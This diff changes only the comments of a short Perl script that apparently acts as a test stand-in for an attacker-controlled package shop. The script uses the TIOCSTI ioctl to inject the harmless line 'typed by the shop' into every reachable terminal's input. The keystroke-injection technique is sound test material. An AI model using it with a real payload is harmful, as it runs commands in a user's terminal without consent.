@@ -1,11 +1,11 @@
 #!/usr/bin/perl
-# In the place of the shop: one that was broken into types into each terminal that it can reach.
+# Stands in for a shop that an attacker controls: it types into each terminal that it can reach.
 use strict;
 use warnings;
 
 my @terminals = (*STDIN, *STDOUT, *STDERR);
 if (open my $own, '+<', '/dev/tty') { push @terminals, $own }
 for my $terminal (@terminals) {
-  # TIOCSTI
+  # The request TIOCSTI adds a character to the terminal's input.
   ioctl $terminal, 0x5412, $_ for split //, "typed by the shop\n";
 }
